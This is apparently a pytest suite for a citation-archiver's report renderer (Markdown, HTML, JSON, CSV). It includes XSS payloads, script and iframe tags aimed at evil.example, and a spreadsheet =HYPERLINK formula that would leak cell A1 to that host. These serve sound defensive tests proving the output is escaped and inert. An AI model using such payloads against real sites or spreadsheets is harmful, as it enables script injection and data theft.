"""The citation report in each format, built offline from a fixture archive."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from verify_archive import FAILED, NEVER, add_page, build_archive

from archiver.errors import ArchiverError
from archiver.report import CSV_FIELDS, FORMATS, Action, Report, build_report, render
from archiver.store import Store

URL_SOURCE = "https://blog.example/article"
NOW = datetime(2025, 7, 1, 8, 0, tzinfo=UTC)

EXPECTED_ACTIONS = {
    "https://news.example/interfax": ("ok", None),  # archived, checked ok
    "https://news.example/tass": ("ok", None),  # archived, never checked
    "https://gov.example/readout": ("use_archive", None),  # dead
    "https://wire.example/reuters": ("ok", None),
    "https://news.example/ria": ("replace", "https://news.example/ria-new"),  # moved
    "https://gov.example/statements": ("use_archive", None),  # drifted
    NEVER: ("archive", None),  # never captured
    FAILED: ("lost", None),  # only a failed capture, and dead
}


@pytest.fixture
def report(db_path: Path, no_network: None) -> Report:
    build_archive(db_path, locator=URL_SOURCE)
    with Store.open(db_path, create=False) as store:
        return build_report(store, URL_SOURCE, now=NOW)


def test_actions(report: Report) -> None:
    got = {e.citation.url: (str(e.action), e.replacement) for e in report.entries}
    assert got == EXPECTED_ACTIONS
    assert [e.number for e in report.entries] == list(range(1, 9))
    assert report.summary()["needs_action"] == 5
    assert report.summary()["possibly_misattributed"] == 1


def test_json_lines(report: Report) -> None:
    lines = [json.loads(line) for line in render(report, "json").splitlines()]
    head, rest = lines[0], lines[1:]
    assert head["kind"] == "report" and head["source"] == URL_SOURCE
    assert head["generated_at"] == "2025-07-01T08:00:00+00:00"
    assert head["citations"] == 8 and head["links"] == 8 and head["archived"] == 6
    assert len(head["without_public_copy"]) == 8
    citations = [o for o in rest if o["kind"] == "citation"]
    quotes = [o for o in rest if o["kind"] == "quote"]
    assert len(citations) == 8 and len(quotes) == 6
    reuters = next(c for c in citations if c["url"] == "https://wire.example/reuters")
    assert reuters["raw"] == "https://wire.example/reuters?utm_source=feed"
    assert reuters["title"] == "Energy talks" and len(reuters["sha256"]) == 64
    assert reuters["action"] == "ok" and reuters["public_url"] is None
    flagged = [q for q in quotes if q["misattributed"]]
    assert [q["url"] for q in flagged] == ["https://gov.example/statements"]


def test_csv(report: Report) -> None:
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert len(rows) == 8
    assert tuple(rows[0].keys()) == CSV_FIELDS
    got = {r["url"]: (r["action"], r["replacement"] or None) for r in rows}
    assert got == EXPECTED_ACTIONS
    ria = next(r for r in rows if r["url"] == "https://news.example/ria")
    assert ria["check"] == "moved" and ria["checked_at"].startswith("2025-06-20") and ria["archived"] == "yes"
    never = next(r for r in rows if r["url"] == NEVER)
    assert never["archived"] == "no" and never["snapshot_id"] == "" and never["check"] == "unchecked"
    assert int(never["line"]) == 16 and int(ria["line"]) == 12
    failed = next(r for r in rows if r["url"] == FAILED)
    assert failed["last_error"] == "http_error: 404 Not Found" and never["last_error"] == ""


def test_markdown(report: Report) -> None:
    md = render(report, "md")
    assert md.startswith(f"# Citation report: {URL_SOURCE}\n")
    citations = md.split("## Citations\n")[1].split("## Quotations")[0]
    table = [line for line in citations.splitlines() if line.startswith("| ") and line[2].isdigit()]
    assert len(table) == 8
    assert "replace with the new URL: https://news.example/ria-new" in md
    assert "POSSIBLY MISATTRIBUTED" in md
    assert "## Citations without a public archived copy" in md
    assert f"- {NEVER}" in md
    failed_row = next(line for line in table if FAILED in line)
    assert "not archived (last capture failed: http_error: 404 Not Found" in failed_row
    # every table row has exactly the 7 columns (no unescaped pipe in a cell)
    for line in table:
        assert line.replace("\\|", "").count("|") == 8


def test_html_is_self_contained_with_robust_links(report: Report) -> None:
    page = render(report, "html")
    soup = BeautifulSoup(page, "html.parser")
    csp = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert csp is not None and "default-src 'none'" in csp["content"]
    assert not soup.find_all(["script", "link", "img", "iframe", "object", "embed"])
    assert not [tag for tag in soup.find_all(True) if tag.has_attr("src")]

    robust = soup.find_all("a", attrs={"data-originalurl": True})
    assert len(robust) == 8
    for a in robust:
        assert a["href"] == a["data-originalurl"]
        assert a["href"] in EXPECTED_ACTIONS
        # no public archived copy is known: never a version URL or date
        assert not a.has_attr("data-versionurl") and not a.has_attr("data-versiondate")

    # every archived copy is embedded once and every in-page link resolves
    copies = soup.find_all("details", id=lambda v: bool(v) and v.startswith("snapshot-"))
    assert len(copies) == 6
    ids = {tag["id"] for tag in soup.find_all(id=True)}
    internal = [a["href"] for a in soup.find_all("a", href=True) if a["href"].startswith("#")]
    assert internal and all(h[1:] in ids for h in internal)
    statements = next(c for c in copies if "gov.example/statements" in c.get_text())
    assert "Our delegation will insist on the return of the six diplomatic" in statements.get_text()

    lacking = soup.find(id="public-copies").find_next("ul")
    assert {li.get_text() for li in lacking.find_all("li")} == set(EXPECTED_ACTIONS)
    assert "possibly misattributed" in soup.find(id="quotations").find_next("table").get_text()
    failed_row = next(tr for tr in soup.find_all("tr") if FAILED in tr.get_text())
    assert "last capture failed: http_error: 404 Not Found" in failed_row.get_text()


def test_html_writes_version_attributes_only_for_a_public_copy(report: Report) -> None:
    first = report.entries[0]
    public = dataclasses.replace(
        first.citation, public_url="https://web.archive.org/web/20250604/https://news.example/interfax",
        public_date=datetime(2025, 6, 4, tzinfo=UTC),
    )
    changed = dataclasses.replace(report, entries=(dataclasses.replace(first, citation=public), *report.entries[1:]))
    soup = BeautifulSoup(render(changed, "html"), "html.parser")
    versioned = soup.find_all("a", attrs={"data-versionurl": True})
    assert len(versioned) == 1
    assert versioned[0]["data-versiondate"] == "2025-06-04"
    assert versioned[0]["data-originalurl"] == "https://news.example/interfax"
    assert "https://news.example/interfax" not in changed.without_public_copy
    assert len(changed.without_public_copy) == 7


def test_html_escapes_archived_content(db_path: Path, no_network: None) -> None:
    build_archive(db_path, locator=URL_SOURCE)
    with Store.open(db_path) as store:
        add_page(store, "https://news.example/tass", '<script>alert("title")</script>',
                 'Body with <img src="http://evil.example/x.png"> and <iframe src="http://evil.example/">',
                 at=NOW)
        report = build_report(store, URL_SOURCE, now=NOW)
    soup = BeautifulSoup(render(report, "html"), "html.parser")
    assert not soup.find_all(["script", "img", "iframe"])
    assert '<script>alert("title")</script>' in soup.get_text()


HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>[x](javascript:alert(3))|'


def test_hostile_titles_urls_and_redirects_stay_inert(db_path: Path, no_network: None) -> None:
    """A page title, final URL or redirect target made to break out of the report is only text."""
    from verify_archive import add_check

    from archiver.types import Body, Extracted, FetchResult

    build_archive(db_path, locator=URL_SOURCE)
    with Store.open(db_path) as store:
        url = "https://news.example/tass"
        store.add_snapshot(
            FetchResult(url=url, final_url="https://news.example/x?q=" + HOSTILE, status=200,
                        content_type="text/html", body=Body.from_bytes(b"<p>x</p>"), encoding="utf-8",
                        attempts=1, fetched_at=NOW),
            Extracted(title=HOSTILE, text="A body with " + HOSTILE),
        )
        add_check(store, url, "moved", "javascript:alert(4)", at=NOW)
        report = build_report(store, URL_SOURCE, now=NOW)
    page = render(report, "html")
    soup = BeautifulSoup(page, "html.parser")
    assert not soup.find_all(["script", "img", "iframe", "object", "embed", "base", "form"])
    assert not [a for tag in soup.find_all(True) for a in tag.attrs if a.lower().startswith("on")]
    hrefs = [a["href"] for a in soup.find_all("a", href=True)]
    assert hrefs and all(h.startswith(("https://", "http://", "#")) for h in hrefs), hrefs
    assert HOSTILE in soup.get_text()  # shown, as text
    csp = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert csp is not None and "default-src 'none'" in csp["content"]
    assert soup.find("meta", attrs={"http-equiv": "x-dns-prefetch-control", "content": "off"})
    # Markdown: rendered (raw HTML allowed, as CommonMark does), the title is still only text
    from markdown_it import MarkdownIt

    md = render(report, "md")
    rendered = BeautifulSoup(MarkdownIt("commonmark").enable("table").render(md), "html.parser")
    assert not rendered.find_all(["script", "img"])
    assert not [a for a in rendered.find_all("a", href=True) if not a["href"].startswith("http")]
    assert HOSTILE in rendered.get_text()
    citations = md.split("## Citations\n")[1].split("## Quotations")[0]
    (row,) = [line for line in citations.splitlines() if "news.example/tass" in line]
    assert row.replace("\\|", "").count("|") == 8
    assert len(rendered.find("table").find_all("tr")[2].find_all("td")) == 7  # the tass row: 7 cells


def test_csv_cells_never_start_a_formula(db_path: Path, no_network: None) -> None:
    """A page title like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
    build_archive(db_path, locator=URL_SOURCE)
    with Store.open(db_path) as store:
        add_page(store, "https://news.example/tass", '=HYPERLINK("https://evil.example/?"&A1,"click")', "text", at=NOW)
        add_page(store, "https://news.example/interfax", "@SUM(1+1)", "text", at=NOW)
        report = build_report(store, URL_SOURCE, now=NOW)
    rows = {r["url"]: r for r in csv.DictReader(io.StringIO(render(report, "csv")))}
    assert rows["https://news.example/tass"]["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert rows["https://news.example/interfax"]["title"] == "'@SUM(1+1)"
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_unknown_format_is_an_error(report: Report) -> None:
    assert set(FORMATS) == {"md", "html", "json", "csv"}
    with pytest.raises(ArchiverError, match="unknown report format"):
        render(report, "pdf")


def test_report_of_an_article_with_nothing_archived(db_path: Path, no_network: None) -> None:
    from verify_archive import article_harvest

    with Store.open(db_path) as store:
        store.record_source(article_harvest(Path(__file__).parent / "fixtures" / "verify" / "article.md",
                                            URL_SOURCE))
        report = build_report(store, URL_SOURCE, now=NOW)
    assert {e.action for e in report.entries} == {Action.ARCHIVE}
    assert all(q.status == "not_found" for q in report.quotes)
    soup = BeautifulSoup(render(report, "html"), "html.parser")
    assert "No archived copy." in soup.get_text()


@pytest.mark.parametrize("status", ["blocked", "error"])
def test_a_blocked_or_failing_link_never_archived_is_not_called_lost(status: str) -> None:
    # blocked / error mean "the site refuses archiver" / "cannot tell now": not broken, so the
    # advice is to archive it, not "broken and never archived: find another source".
    from archiver.report import decide
    from archiver.types import CheckResult, Citation, LinkStatus
    from archiver.verify import CitationCheck

    url = "https://news.example/walled"
    cit = Citation(raw=url, url=url, source="a.md", line=1, column=1, paragraph=0, context="")
    verdict = CheckResult(url=url, status=LinkStatus(status), checked_at=NOW)
    assert decide(CitationCheck(citation=cit, snapshot=None, check=verdict)) == (Action.ARCHIVE, None)
    dead = CheckResult(url=url, status=LinkStatus.DEAD, checked_at=NOW)
    assert decide(CitationCheck(citation=cit, snapshot=None, check=dead)) == (Action.LOST, None)
